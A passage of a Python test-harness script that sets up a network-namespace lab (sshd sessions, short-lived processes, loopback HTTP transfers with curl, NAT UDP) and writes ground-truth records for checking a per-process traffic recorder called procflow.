                os.kill(int(f.read().strip()), signal.SIGTERM)
        except (OSError, ValueError) as e:
            log("sshd pid file: %s" % e)
            sshd.send_signal(signal.SIGTERM)
        try:
            sshd.wait(10)
        except subprocess.TimeoutExpired:
            sshd.kill()
        segs = strace_segments(trace, lambda pid: "sshd/pid-%d" % pid)
        # The session's bytes: sshd names the unprivileged child that runs
        # as the user after authentication ("User child is on pid N").
        with open(os.path.join(self.logdir, "sshd.stderr"), errors="replace") as f:
            session = {int(m) for m in re.findall(r"User child is on pid (\d+)", f.read())}
        if len(session) != 2:
            raise ScenarioError("sshd logged %d session children, expected 2" % len(session))
        for s in segs:
            fam = "ipv6" if ":" in s["local_ip"] else "ipv4"
            if s["pid"] in session:
                s["cmd"], s["args"], s["uid"] = "sshd", "sshd: %s@notty" % user, uid
                s["proc"] = "sshd-%s/session-%d" % (fam, s["pid"])
            else:
                s["proc"] = "sshd-%s/pid-%d" % (fam, s["pid"])
        self.extra_truth += segs
        self.notes["sshd_user"] = user
        self.notes["sshd_uid"] = uid

    def w_short(self):
        p = self.spawn("h", self.agent_argv("short-launcher", "short", self.p4, self.p6, 20), "short-launcher",
                       stdout=subprocess.PIPE)
        self.wait(p, "short-lived launcher")
        lives = json.loads(p.stdout.read())["life_ms"]
        log("short-lived processes lived %s ms" % " ".join("%.0f" % x for x in lives))
        slow = [x for x in lives if x > 60]
        if slow:
            log("WARNING: %d of 20 short-lived processes lived longer than 60 ms (machine busy?)" % len(slow))
        self.notes["short_life_ms"] = lives

    def w_loopback(self):
        docroot = os.path.join(self.work, "www")
        os.makedirs(docroot)
        with open(os.path.join(docroot, "file.bin"), "wb") as f:
            f.write(os.urandom(300_000))
        ends = []
        for fam, bind, url in (("ipv4", "127.0.0.1", "127.0.0.1"), ("ipv6", "::1", "[::1]")):
            port = HTTP_PORT[fam]
            srv = self.spawn("h", [self.python, "-m", "http.server", "--bind", bind, "--directory", docroot,
                                   str(port)], "http-server-" + fam)
            deadline = time.monotonic() + 10
            while ":%d " % port not in run(["ip", "netns", "exec", self.ns["h"], "ss", "-ltn"]).stdout:
                if srv.poll() is not None or time.monotonic() > deadline:
                    raise ScenarioError("http.server did not start")
                time.sleep(0.05)
            c = self.spawn("h", ["curl", "-sS", "-o", "/dev/null", "-w",
                                 "%{local_ip} %{local_port} %{size_request} %{size_header} %{size_download}",
                                 "http://%s:%d/file.bin" % (url, port)], "curl-" + fam, stdout=subprocess.PIPE,
                           text=True)
            out, _ = c.communicate(timeout=30)
            if c.returncode != 0:
                raise ScenarioError("curl failed")
            lip, lport, req, hdr, body = out.split()
            sent, got = int(req), int(hdr) + int(body)
            e = {"local_ip": plain(lip), "local_port": int(lport), "remote_ip": plain(lip), "remote_port": port}
            self.extra_truth.append(dict(kind="end", proc="loopback-%s/curl" % fam, pid=c.pid, proto="tcp",
                                         sent=sent, received=got, cmd="curl", args="curl", **e))
            srv_e = {"local_ip": e["remote_ip"], "local_port": port, "remote_ip": e["local_ip"],
                     "remote_port": e["local_port"]}
            self.extra_truth.append(dict(kind="end", proc="loopback-%s/server" % fam, pid=srv.pid, proto="tcp",
                                         sent=got, received=sent, cmd="python", args="http.server", **srv_e))
            time.sleep(0.3)
            srv.kill()
            srv.wait()
        return ends

    def w_natudp(self):
        c = self.spawn("c", self.agent_argv("udp-fresh", "natudp-ipv4", self.p4, self.h4, 40), "natudp")
        self.wait(c, "natudp")

    # -- run -------------------------------------------------------------------

    def execute(self):
        only = self.args.only.split(",") if self.args.only else ALL
        for o in only:
            if o not in ALL:
                raise ScenarioError("unknown workload %s (known: %s)" % (o, ",".join(ALL)))
        t0 = time.monotonic()
        try:
            self.setup()
            peer = self.spawn("p", self.agent_argv("peer"), "peer", stdout=subprocess.PIPE)
            self.wait_started(peer, "peer services")
            self.start_recorder("bundle", self.up_h, [])
            if self.args.nouse_arg:
                self.start_recorder("bundle-nouse", self.up_h, self.args.nouse_arg)
            if "loopback" in only:
                self.start_recorder("bundle-lo", "lo", [])
            # One recorder tick before the traffic.
            time.sleep(0.5)
            log("lab ready in %.1f s" % (time.monotonic() - t0))
            for w in ALL:
                if w in only:
                    t = time.monotonic()
                    getattr(self, "w_" + w)()
                    log("%s done in %.1f s" % (w, time.monotonic() - t))
            # The capture's last packets and the recorder's last snapshot.
            time.sleep(1.5)
            self.stop_recorders()
            peer.kill()
            self.write_truth(only)
        finally:
            self.cleanup()
        log("done in %.1f s" % (time.monotonic() - t0))

    def write_truth(self, only):
        lines = []
        with open(self.truth_log) as f:
            for line in f:
                lines.append(json.loads(line))
        lines += self.extra_truth
        truth = {
            "scenario": "procflow hand-off",
            "workloads": only,
            "host": {"ipv4": self.h4, "ipv6": self.h6, "netns": self.ns["h"]},
            "peer": {"ipv4": self.p4, "ipv6": self.p6},
            "bundles": {"main": "bundle", "nouse": "bundle-nouse" if self.args.nouse_arg else None,
                        "loopback": "bundle-lo" if "loopback" in only else None},
            "notes": self.notes,
            "records": lines,
        }
        with open(os.path.join(self.work, "truth.json"), "w") as f:
            json.dump(truth, f, indent=1)
            f.write("\n")


def main():
    if len(sys.argv) > 1 and sys.argv[1] == "agent":
        agent_main(sys.argv[2:])
        return 0
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--out", required=True)
    p.add_argument("--snap", default="procflow-snap")
    p.add_argument("--nouse-arg", action="append",
                   help="arguments of a second recorder without the per-send tracepoints (repeatable)")
    p.add_argument("--recorder-nice", type=int)
    p.add_argument("--only", help="comma-separated workloads (default: all)")
    args = p.parse_args()
    if os.geteuid() != 0:
        log("needs root")
        return 2
    for tool in ("ip", "tcpdump", "nft", "strace", "ssh", "curl", "ethtool"):
        if shutil.which(tool) is None:
            log("needs %s" % tool)
            return 2
    if not os.path.exists("/usr/sbin/sshd"):
        log("needs /usr/sbin/sshd (openssh-server)")
        return 2
    sc = Scenario(args)

    def on_signal(signum, _frame):
        raise ScenarioError("interrupted by signal %d" % signum)

    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)
    try:
        sc.execute()
    except ScenarioError as e:
        log("FAILED: %s" % e)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
